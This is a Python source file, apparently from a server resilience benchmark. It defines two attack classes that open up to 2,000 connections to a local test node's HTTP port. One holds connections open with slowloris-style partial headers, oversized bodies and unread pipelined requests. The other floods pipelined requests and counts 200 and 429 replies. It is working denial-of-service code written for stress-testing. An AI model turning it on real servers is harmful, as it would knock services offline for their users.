"""Connections without a token that hold on to the HTTP port, or ask and ask."""

from __future__ import annotations

import contextlib
import select
import socket
from urllib.parse import urlsplit

from bench.attack.base import Attack

_ADDRESSES = 20
_POST = b"POST /rooms/bench-0/whip HTTP/1.1\r\nHost: x\r\nContent-Type: application/sdp\r\n"
_OPENINGS = (
    b"",
    b"GET / HTTP/1.1\r\nX-A: a",
    b"GET / HTTP/1.1\r\nX-A: " + b"a" * 16000,
    _POST + b"Content-Length: 100000\r\n\r\na",
    _POST + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\na\r\n" * 8000,
    b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n" * 2000,
)
_WHOLE = b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n" * 50
"""As much as may wait behind a request that is being answered."""
_READ_BYTES = 65536
_GONE = select.POLLRDHUP | select.POLLHUP | select.POLLERR


class SlowHttp(Attack):
    """2,000 connections from twenty addresses: silent, slow, endless, pipelined; none reads its answers.

    One that is closed is opened anew; `rate` bounds what is opened, and what is said, a second.
    """

    name = "http"
    connections = 2000

    def open(self) -> None:
        place = urlsplit(self.target.url)
        self._place = place.hostname or "", place.port or 0
        self._open: dict[int, socket.socket] = {}
        self._poll = select.poll()
        self._number = 0
        self._turn: list[int] = []

    def step(self, count: int) -> None:
        for descriptor, _event in self._poll.poll(0):
            self._drop(descriptor)
            self.tally["closed by the node"] += 1
        new = min(count, self.connections - len(self._open))
        for _ in range(new):
            self._connect()
        for _ in range(count - new):
            self._go_on_somewhere()
        self.tally["most at once"] = max(self.tally["most at once"], len(self._open))

    def _connect(self) -> None:
        self._number += 1
        opened = socket.socket()
        opened.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        try:
            opened.bind((f"127.0.1.{1 + self._number % _ADDRESSES}", 0))
            opened.settimeout(1.0)
            opened.connect(self._place)
            opened.setblocking(False)
            opened.send(self.opening(self._number))
        except (BlockingIOError, ConnectionError, TimeoutError):
            self.tally["not accepted"] += 1
            opened.close()
            return
        self._open[opened.fileno()] = opened
        self._poll.register(opened, _GONE)
        self.tally["opened"] += 1

    def opening(self, number: int) -> bytes:
        """What a connection begins with."""
        return _OPENINGS[number % len(_OPENINGS)]

    def go_on(self, opened: socket.socket) -> None:
        """Do something on a connection that is open."""
        with contextlib.suppress(BlockingIOError, ConnectionError):
            opened.send(b"a")

    def _go_on_somewhere(self) -> None:
        if not self._turn:
            self._turn = list(self._open)
        while self._turn:
            opened = self._open.get(self._turn.pop())
            if opened is not None:
                self.go_on(opened)
                return

    def _drop(self, descriptor: int) -> None:
        self._poll.unregister(descriptor)
        self._open.pop(descriptor).close()

    def close(self) -> None:
        for descriptor in list(self._open):
            self._drop(descriptor)


class QuickHttp(SlowHttp):
    """As many connections, each of which pipelines whole requests, reads the answers and sends more."""

    name = "requests"

    def opening(self, number: int) -> bytes:
        return _WHOLE

    def go_on(self, opened: socket.socket) -> None:
        with contextlib.suppress(BlockingIOError, ConnectionError):
            answers = opened.recv(_READ_BYTES)
            self.tally["answers"] += answers.count(b"HTTP/1.1 200")
            self.tally["refused"] += answers.count(b"HTTP/1.1 429")
            opened.send(_WHOLE)
